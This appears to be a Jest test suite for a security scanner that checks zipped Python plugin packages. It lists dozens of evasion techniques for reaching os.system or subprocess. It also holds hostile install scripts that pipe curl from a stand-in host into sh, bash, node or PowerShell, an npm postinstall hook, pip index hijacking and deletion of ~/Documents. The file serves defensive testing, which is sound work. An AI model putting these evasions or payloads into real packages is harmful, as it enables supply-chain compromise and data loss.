import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-evasions-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of an archive's findings, which are sorted by level. */
async function levelOf(files: Files): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

const HOSTILE = 'curl -s https://e.example/a | sh';

describe('the checks hold a function that is reached', () => {
  it.each<[string, Files]>([
    ['by letters of another form', 'import 𝗼𝘀\n𝗼𝘀.ｓｙｓｔｅｍ("a")\n'],
    ['by an import in letters of another form', 'from ｓｕｂｐｒｏｃｅｓｓ import ｒｕｎ\nｒｕｎ(["a"])\n'],
    [
      'by a relative import of a file that is loaded under another name',
      {
        '__init__.py':
          'import importlib.util as u, os\nHERE = os.path.dirname(__file__)\ns = u.spec_from_file_location(__name__ + ".a", os.path.join(HERE, "nodes", "a.py"))\ns.loader.exec_module(u.module_from_spec(s))\n',
        'nodes/a.py': 'from . import settings\n',
        'nodes/settings.py': 'SIZE = 1\n',
        'settings.py': `import os\nos.system("${HOSTILE}")\n`,
      },
    ],
    [
      'by a name that a file takes from the package that it is loaded into',
      {
        '__init__.py':
          'import importlib.util as u, os\nHERE = os.path.dirname(__file__)\ns = u.spec_from_file_location(f"{__name__}.tools.a", os.path.join(HERE, "nodes", "a.py"))\ns.loader.exec_module(u.module_from_spec(s))\n',
        'nodes/a.py': 'from .settings import start\nstart()\n',
        'nodes/settings.py': 'def start(): return 1\n',
        'tools/settings.py': `import os\ndef start(): os.system("${HOSTILE}")\n`,
      },
    ],
    [
      'by an own file with the name of a module of the host',
      { '__init__.py': 'import nodes as host\nhost.os.system("a")\n', 'nodes.py': 'SIZE = 1\n' },
    ],
    [
      'from an own file with the name of a module of the host',
      {
        '__init__.py': 'import sys\nsys.path.append("a")\nfrom folder_paths import os as o\no.system("a")\n',
        'folder_paths.py': 'SIZE = 1\n',
      },
    ],
    [
      'by a library that imports it',
      'from huggingface_hub.utils._http import requests as r\nr.get("https://e.example")\n',
    ],
    ['by a function that a library imports', 'from torch.hub import urlopen\nurlopen("https://e.example")\n'],
    [
      'by a class derived from that of a connection',
      'import http.client\nclass C(http.client.HTTPSConnection): pass\nC("e.example").request("GET", "/")\n',
    ],
    ['by a class derived from a client', 'import ftplib\nclass C(ftplib.FTP): pass\nC("e.example")\n'],
    ['by a class made by a call', 'import subprocess\ntype("C", (subprocess.Popen,), {})(["a"])\n'],
    [
      'by a model that is called',
      'import os, torch\nclass M(torch.nn.Module):\n    def forward(self, x): os.system(x)\nM()("a")\n',
    ],
    [
      'by an importer of built-in modules',
      'from importlib.machinery import BuiltinImporter\nBuiltinImporter.load_module("posix").system("a")\n',
    ],
    [
      'by the names in a pickle',
      'import io, pickle\npickle.Unpickler(io.BytesIO(b"")).find_class("os", "system")("a")\n',
    ],
    [
      'by an annotation that is evaluated',
      "import inspect\ndef f(x: \"__import__('os').system('a')\"): pass\ninspect.get_annotations(f, eval_str=True)\n",
    ],
    ['in a deque', 'import os\nfrom collections import deque\ndef go(): os.system("a")\nfor f in deque([go]): f()\n'],
    ['by another name for exec', 'import six\nsix.exec_(open("a").read())\n'],
    ['by its own __call__', 'import os\nos.system.__call__("a")\n'],
    ['among the members of a module', 'import inspect, os\ndict(inspect.getmembers(os))["system"]("a")\n'],
    ['among the names of a module', 'import os\n[v for k, v in vars(os).items() if k == "system"][0]("a")\n'],
    ['by a name written backwards', 'import builtins\ngetattr(builtins, "".join(reversed("cexe")))("a")\n'],
    [
      'by a name for a loader',
      'from hydra.utils import instantiate\ninstantiate({"_target_": "os.system", "command": "a"})\n',
    ],
    [
      'by a name in a configuration',
      'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "os.system", "command": "a"}}})\n',
    ],
    [
      'by a path file of another name',
      'import os, site\nsite.addpackage(os.path.dirname(__file__), "list.txt", set())\n',
    ],
    [
      'by formulas in a file',
      'import os, sympy\nHERE = os.path.dirname(__file__)\nfor line in open(os.path.join(HERE, "a.txt")).read().splitlines(): sympy.sympify(line)\n',
    ],
    [
      'by a connection between processes',
      'from multiprocessing.connection import Client\nwith Client(("e.example", 6000)) as link: print(link.recv())\n',
    ],
    ['by settings that it waits for', 'import logging.config\nlogging.config.listen(9999).start()\n'],
    [
      'by a message to a web socket',
      'import asyncio\nfrom aiohttp import web\nfrom server import PromptServer\nasync def console(request):\n    socket = web.WebSocketResponse()\n    await socket.prepare(request)\n    async for message in socket: await asyncio.create_subprocess_shell(message.data)\nPromptServer.instance.app.router.add_get("/a", console)\n',
    ],
    [
      'by the source of a module of the host',
      'import folder_paths, inspect, pathlib\nfile = pathlib.Path(inspect.getfile(folder_paths))\nfile.write_text(file.read_text() + "import a")\n',
    ],
    [
      'by the source of a module that is searched for',
      'import importlib.util\nopen(importlib.util.find_spec("folder_paths").origin, "a").write("import a")\n',
    ],
    ['in an annotation', 'import typing\ndef f(x: "__import__(\'os\').system(1)"): pass\ntyping.get_type_hints(f)\n'],
    ['in a class that is raised', 'import os\nclass E(Exception):\n    def __init__(self): os.system("a")\nraise E\n'],
    [
      'by calling an instance',
      'import os, atexit\nclass A:\n    def __call__(self): os.system("a")\natexit.register(A())\n',
    ],
    [
      'by a missing value of an enumeration',
      'import os, enum\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, v): os.system(v)\nE("a")\n',
    ],
    [
      'by a registered implementation',
      'import os, functools\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x): os.system(x)\nf("a")\n',
    ],
    [
      'by a special method of a class without a definition',
      'import os\nX = type("X", (), {"__str__": lambda s: str(os.system("a"))})\nprint(X())\n',
    ],
    [
      'by a test for subclasses',
      'import abc, os\nclass B(abc.ABC):\n    @classmethod\n    def __subclasshook__(cls, c): os.system("a")\nissubclass(int, B)\n',
    ],
    ['by an encoder', 'import os, json\njson.dumps(object(), default=lambda o: os.system("a"))\n'],
    [
      'by the class of an encoder',
      'import os, json\nclass E(json.JSONEncoder):\n    def default(self, o): os.system("a")\njson.dumps(object(), cls=E)\n',
    ],
    [
      'by a loader of sources',
      'import importlib.abc as a, importlib.util as u\nclass L(a.InspectLoader):\n    def get_source(self, n): return "a()"\ns = u.spec_from_loader("v", L())\ns.loader.exec_module(u.module_from_spec(s))\n',
    ],
    ['by new code', 'def f(): pass\nf.__code__ = compile(open("x").read(), "", "exec")\nf()\n'],
    ['by the code of another function', 'def f(): pass\ndef g(): pass\nf.__code__, x = g.__code__, 1\nf()\n'],
    ['by new code in a loop', 'def f(): pass\nfor f.__code__ in [compile(open("x").read(), "", "exec")]:\n    f()\n'],
    [
      'by new code, named in a text',
      'def f(): pass\nsetattr(f, "__co" + "de__", compile(open("x").read(), "", "exec"))\nf()\n',
    ],
    [
      'by new code, set by a method',
      'def f(): pass\nobject.__setattr__(f, "__code__", compile(open("x").read(), "", "exec"))\nf()\n',
    ],
    ['in a block for types that runs', 'import os\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n    os.system("a")\n'],
    [
      'in a main block that runs at import',
      '__name__ = "__main__"\nif __name__ == "__main__":\n    import os\n    os.system("a")\n',
    ],
    [
      'by a subclass hook of a class without a definition',
      'import os\nX = type("X", (), {"__init_subclass__": classmethod(lambda c: os.system("a"))})\n',
    ],
    [
      'by a formatter',
      'import os, string\nclass F(string.Formatter):\n    def get_value(self, k, a, n): return os.popen(k).read()\nF().format("{a}")\n',
    ],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks hold at import', () => {
  it.each<[string, Files]>([
    ['a pager', 'import pydoc\npydoc.pipepager("", "a")\n'],
    ['a pipe', 'import pipes\nt = pipes.Template()\nt.append("a", "--")\n'],
    ['a command of Tcl', 'import tkinter\ntkinter.Tcl().eval("exec a")\n'],
    [
      'a program that an event loop starts',
      'import asyncio\nl = asyncio.new_event_loop()\nl.run_until_complete(l.subprocess_shell(asyncio.SubprocessProtocol, "a"))\n',
    ],
    ['a template that is compiled', 'from mako.template import Template\nTemplate("<% a() %>").render()\n'],
    ['a function of a library of Windows', 'from ctypes import cdll\ncdll.msvcrt.system(b"a")\n'],
    ['an extension of SQLite', 'import sqlite3\nc = sqlite3.connect("a")\nc.load_extension("b.dat")\n'],
    [
      'an installed command',
      'import importlib.metadata as m\nfor e in m.entry_points(group="console_scripts"):\n    e.load()(["install", "a"])\n',
    ],
    ['a setup script', 'from setuptools import sandbox\nsandbox.run_setup("a.py", ["install"])\n'],
    ['an update by Git', 'from git import Repo\nRepo(".").remotes.origin.pull()\n'],
    [
      'code of a model',
      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)\n',
    ],
    ['tests', 'import unittest\nunittest.main(module=__name__, exit=False)\n'],
    [
      'code in C that starts programs',
      'from torch.utils import cpp_extension\ncpp_extension.load_inline(name="a", cpp_sources="int f() { return system(0); }")\n',
    ],
    ['a model with code', 'import keras\nkeras.models.load_model("a.h5", safe_mode=False)\n'],
    ['a loader of YAML by its type', 'from ruamel.yaml import YAML\nYAML(typ="unsafe").load(open("a.yaml"))\n'],
    ['changing the host', 'import execution\nopen(execution.__file__, "a").write("a()")\n'],
    [
      'changing other packages',
      'from pathlib import Path\nfor d in Path(__file__).parent.parent.iterdir(): (d / "__init__.py").write_text("a()")\n',
    ],
    ['a package index, as a mapping', 'import os\nos.environ.update({"PIP_INDEX_URL": "https://e.example"})\n'],
    ['a package index, with a function', 'import os\nos.putenv("PIP_EXTRA_INDEX_URL", "https://e.example")\n'],
    ['a breakpoint', 'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"\nbreakpoint("a")\n'],
    [
      'the settings of pip',
      'import os\nwith open(os.path.expanduser("~/.config/pip/pip.conf"), "w") as f: f.write("a")\n',
    ],
    ['removing documents', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~/Documents"))\n'],
    [
      'a loader of YAML that makes any object',
      'import os, yaml\nyaml.load(open(os.path.join(os.path.dirname(__file__), "a.yaml")), Loader=yaml.Loader)\n',
    ],
    [
      'a script that is redirected to a file and run',
      { '__init__.py': '', 'install.sh': 'curl -s https://e.example/x > x1.sh; bash x1.sh\n' },
    ],
    [
      'a script for a shell of another user',
      { '__init__.py': '', 'install.sh': 'curl -s https://e.example/ | sudo -E bash -\n' },
    ],
    [
      'a script that is saved by its own name and sourced',
      { '__init__.py': '', 'install.sh': 'curl -sLO https://e.example/e.sh\nsource e.sh\n' },
    ],
    [
      'a script of a repository that is cloned',
      { '__init__.py': '', 'install.sh': 'git clone https://e.example/r && ./r/install.sh\n' },
    ],
    ['a script for Node.js', { '__init__.py': '', 'install.sh': 'curl -s https://e.example/x.js | node\n' }],
    [
      'a program that is started in a batch file',
      { '__init__.py': '', 'install.bat': 'curl -L -o %TEMP%\\t.exe https://e.example/t\nstart "" %TEMP%\\t.exe\n' },
    ],
    [
      'a program that PowerShell saves and runs',
      { '__init__.py': '', 'install.ps1': 'iwr https://e.example/a -OutFile a.exe\n.\\a.exe\n' },
    ],
    [
      'a program that a client of PowerShell saves',
      {
        '__init__.py': '',
        'install.ps1': '(New-Object Net.WebClient).DownloadFile("https://e.example/a", "a.exe")\n& .\\a.exe\n',
      },
    ],
    [
      'a block of a script that PowerShell fetches',
      { '__init__.py': '', 'install.ps1': '& ([scriptblock]::Create((irm https://e.example/)))\n' },
    ],
    [
      'an installer that fetches with joined options',
      { '__init__.py': '', 'install.sh': 'wget -qO /tmp/i https://e.example/i\nchmod +x /tmp/i\n/tmp/i\n' },
    ],
    [
      'a hostile conftest in a folder',
      { '__init__.py': '', 'tests/conftest.py': `import os\nos.system("${HOSTILE}")\n` },
    ],
    [
      'a hostile script of npm',
      { '__init__.py': '', 'package.json': JSON.stringify({ scripts: { postinstall: HOSTILE } }) },
    ],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks do not hold', () => {
  it.each<[string, Files]>([
    [
      'members of a module of the package',
      {
        '__init__.py':
          'import inspect\nfrom . import a\nfor n, c in inspect.getmembers(a, inspect.isclass):\n    c.INPUT_TYPES()\n',
        'a.py': 'class A:\n    @classmethod\n    def INPUT_TYPES(cls): return {}\n',
      },
    ],
    ['reading the environment', 'import os\nos.environ.setdefault("TOKENIZERS_PARALLELISM", "false")\n'],
    ['a message that names a function', 'import logging\nlogging.warning("os.system")\nprint("subprocess.run")\n'],
    ['a copy by pickle', 'import pickle\nX = pickle.loads(pickle.dumps({"a": 1}))\n'],
    [
      'a class of a node without a definition',
      'import subprocess\ndef run(self): return subprocess.run(["a"])\nX = type("X", (), {"FUNCTION": "run", "run": run})\n',
    ],
    ['reading the source of a module', 'import execution\nprint(open(execution.__file__).read())\n'],
    ['a fallback for types', 'TYPE_CHECKING = False\nif TYPE_CHECKING:\n    import os\n    os.system("a")\n'],
    [
      'data that is encoded',
      'import json\nclass E(json.JSONEncoder):\n    def default(self, o): return str(o)\njson.dumps({}, cls=E)\n',
    ],
    ['data that names a function', 'import json\njson.loads(json.dumps({"exec": "os.system"}))\n'],
    ['items of a dictionary', 'import os\nfor k, v in {"a": os.path.join}.items():\n    v("a", "b")\n'],
    ['a reversed list', 'for f in reversed([len, str]):\n    f("a")\n'],
    [
      'an enumeration',
      'import enum\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, v): return cls.A\nE(2)\n',
    ],
    [
      'code of a model that a node loads',
      'from transformers import AutoModel\nclass A:\n    def run(self, x):\n        return AutoModel.from_pretrained(x, trust_remote_code=True)\n',
    ],
    ['scripts of npm', { '__init__.py': '', 'package.json': JSON.stringify({ scripts: { prepare: 'vite build' } }) }],
    ['plain fixtures', { '__init__.py': '', 'tests/conftest.py': 'import sys\nsys.path.insert(0, ".")\n' }],
    ['a cache of the user', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~/.cache/a"))\n'],
  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
});
